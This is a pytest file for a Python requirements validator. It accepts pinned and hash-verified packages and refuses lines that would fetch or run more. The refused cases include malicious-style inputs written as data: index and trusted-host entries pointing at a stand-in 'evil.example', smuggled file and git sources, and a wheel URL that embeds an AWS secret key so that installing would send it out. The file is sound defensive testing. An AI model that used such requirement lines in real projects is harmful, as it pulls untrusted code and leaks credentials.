"""What a package may ask to be installed: names and versions, and wheels under their digest."""

from __future__ import annotations

import pytest

from fogbank.cloud.hosting.requirements import RefusedRequirementError, checked_lines

HASH = "--hash=sha256:" + "0" * 64


@pytest.mark.parametrize(
    "line",
    [
        "numpy",
        "numpy==2.4.6",
        "scikit-learn >=1.5,<2 ; python_version >= '3.11'",
        f"numpy==2.4.6 {HASH} {HASH}",
        f"torch @ https://index.example/torch-2.9.0-py3-none-any.whl ; sys_platform == 'linux' {HASH}",
        "--only-binary=:all:",
        "--require-hashes",
    ],
)
def test_names_and_wheels_are_followed(line: str) -> None:
    assert checked_lines([line, "", "# a comment"]) == [line]


@pytest.mark.parametrize(
    "line",
    [
        "x @ file:///tmp/x",
        "x @ file:///tmp/x-1-py3-none-any.whl " + HASH,
        "-e /tmp/x",
        "--editable=/tmp/x",
        "-e git+https://example.com/x",
        "--index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "--find-links /tmp",
        "-r other.txt",
        "-c constraints.txt",
        "--no-binary=:all:",
        "--trusted-host evil.example",
        "./x",
        "/srv/x-1-py3-none-any.whl",
        "x @ git+https://example.com/x",
        "https://evil.example/x.tar.gz",
        "x @ https://evil.example/x-1.tar.gz " + HASH,
        "x @ https://evil.example/x-1-py3-none-any.whl",
        "x @ https://evil.example/${AWS_SECRET_ACCESS_KEY}-py3-none-any.whl " + HASH,
        "x==1 --config-settings=a=b",
        "x==1 --global-option=--help",
        "x \\\n @ file:///tmp/x",
    ],
)
def test_whatever_would_run_or_fetch_more_is_refused_by_name(line: str) -> None:
    with pytest.raises(RefusedRequirementError, match="is not followed: "):
        checked_lines(["numpy", *line.split("\n")])
